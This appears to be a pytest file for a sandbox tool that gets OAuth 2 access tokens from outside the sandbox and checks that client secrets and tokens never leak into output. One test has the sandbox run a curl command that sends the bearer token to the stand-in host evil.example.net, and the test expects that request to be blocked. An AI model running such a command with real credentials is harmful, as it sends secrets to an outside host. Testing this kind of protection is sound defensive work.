# SPDX-License-Identifier: Apache-2.0
"""Access tokens (OAuth 2, RFC 6749) that are bought outside the sandbox.

The endpoint is a server of the test's own in the lab; what it hands out is the token that
the lab's API wants. The sandbox has a placeholder of it, and nothing of what buys it.
"""

import base64
import json
import time
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs

import pytest
from listener import HttpsServer


SECRET, REFRESH, NEXT = "client/secret+with=signs", "refresh-token-the-first", "refresh-token-the-second"
ENDPOINT, API, PORT = "files.example.com", "api.example.com", 8443
GET = "curl -sS -H \"Authorization: Bearer $API_TOKEN\" https://api.example.com/x"


class Endpoint(HttpsServer):
    """Answers as .reply says; .asked are the forms it was sent, with their Authorization."""

    def __init__(self, token):
        self.asked, self.delay, self.status = [], 0, 200
        self.reply = {"access_token": token, "token_type": "Bearer", "expires_in": 3600}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"])).decode()
                form = {k: v[0] for k, v in parse_qs(body).items()}
                outer.asked.append(dict(form, path=self.path, auth=self.headers["Authorization"],
                                        host=self.headers["Host"]))
                time.sleep(outer.delay)
                data = json.dumps(outer.reply).encode()
                self.send_response(outer.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_):
                pass

        super().__init__(ENDPOINT, PORT, Handler)


@pytest.fixture
def endpoint(lab):
    e = Endpoint(lab.token)
    yield e
    e.stop()


def flags(weir, value=SECRET, **token):
    token = {"url": "https://%s:%d/oauth/token" % (ENDPOINT, PORT), "client_id": "the id", **token}
    secrets = [{"env": "API_TOKEN", "from": "file:" + weir.file("value", value + "\n"), "hosts": [API],
                "token": token}]
    if token.get("client_secret"):
        secrets.append({"env": token["client_secret"], "hosts": [ENDPOINT],
                        "from": "file:" + weir.file("client", SECRET + "\n")})
    return ["--config", weir.file("c.json", {"secrets": secrets})]


# The sandbox itself may not reach the endpoint: its connection is weir's own.
POLICY = {"default_egress": "deny", "rules": [
    {"action": "allow", "destination": API, "ports": [443]}]}


def test_p9_3_18_client_credentials(weir, lab, endpoint):
    """Fetched once, when it is first needed; requests that come meanwhile wait for it."""
    endpoint.delay = 1
    r = weir.sh("echo $API_TOKEN >&2; for i in 1 2 3; do %s & done; wait; %s" % (GET, GET),
                policy=POLICY, flags=flags(weir, scope="read write", audience="https://api/"))
    assert r.out.count('"authorized": true') == 4, r
    (asked,) = endpoint.asked
    assert asked["grant_type"] == "client_credentials" and asked["path"] == "/oauth/token", asked
    assert asked["scope"] == "read write" and asked["audience"] == "https://api/", asked
    assert asked["host"] == "%s:%d" % (ENDPOINT, PORT)
    basic = base64.b64decode(asked["auth"].split()[1]).decode()
    assert basic == "the+id:client%2Fsecret%2Bwith%3Dsigns", basic
    assert [e["host"] for e in r.find("secret", event="token")] == [ENDPOINT], r
    assert r.find("secret", event="used")[0]["secret"] == "API_TOKEN", r
    for value in (SECRET, lab.token):
        assert value not in r.out + r.err and value.encode() not in r.record
    assert SECRET not in lab.seen_text()


def test_p9_3_18_credentials_in_the_body(weir, lab, endpoint):
    r = weir.sh(GET, policy=POLICY, flags=flags(weir, auth="post"))
    assert r.json["authorized"] is True, r
    (asked,) = endpoint.asked
    assert asked["client_id"] == "the id" and asked["client_secret"] == SECRET and not asked["auth"], asked


def test_p9_3_18_nobody_asks_for_what_nobody_needs(weir, lab, endpoint):
    r = weir.sh("curl -sS https://api.example.com/x", policy=POLICY, flags=flags(weir))
    assert r.json["authorized"] is False and not endpoint.asked, r


def test_p9_3_18_refresh_token_rotates(weir, lab, endpoint):
    """The second question is asked with what the first answer brought."""
    endpoint.reply.update(refresh_token=NEXT, expires_in=1)
    r = weir.sh("%s; sleep 1.5; %s" % (GET, GET), policy=POLICY,
                flags=flags(weir, REFRESH, grant="refresh_token", client_secret="CLIENT_SECRET"))
    assert r.out.count('"authorized": true') == 2, r
    assert [a["refresh_token"] for a in endpoint.asked[:2]] == [REFRESH, NEXT], endpoint.asked
    assert all(a["grant_type"] == "refresh_token" and a["auth"] for a in endpoint.asked)
    for value in (REFRESH, NEXT, lab.token):
        assert value not in r.out + r.err and value.encode() not in r.record


def test_p9_3_18_no_token_is_told(weir, lab, endpoint):
    """502 with the reason, at once while the endpoint is left alone; then it is tried again."""
    endpoint.status, endpoint.reply = 400, {"error": "invalid_client", "error_description": SECRET}
    r = weir.sh("%s; %s" % (GET, GET), policy=POLICY, flags=flags(weir))
    assert r.out.count('"status": 502') == 2 or r.out.count("no access token") == 2, r
    assert not lab.seen("http", server=API)
    failed = r.find("secret", event="token_failed")
    assert failed and "400 invalid_client" in failed[0]["detail"], r
    assert len(endpoint.asked) <= 2
    assert SECRET not in r.out + r.err and SECRET.encode() not in r.record


def test_p9_3_18_no_endpoint(weir, lab):
    r = weir.sh(GET, policy=POLICY, flags=flags(weir))
    assert "no access token" in r.out, r
    assert "cannot be reached" in r.find("secret", event="token_failed")[0]["detail"], r


def test_p9_3_18_only_for_its_hosts(weir, lab, endpoint):
    r = weir.sh("curl -sS -H \"Authorization: Bearer $API_TOKEN\" https://evil.example.net/x",
                policy={"default_egress": "allow"}, flags=flags(weir))
    assert "host not allowed" in r.out and not endpoint.asked, r
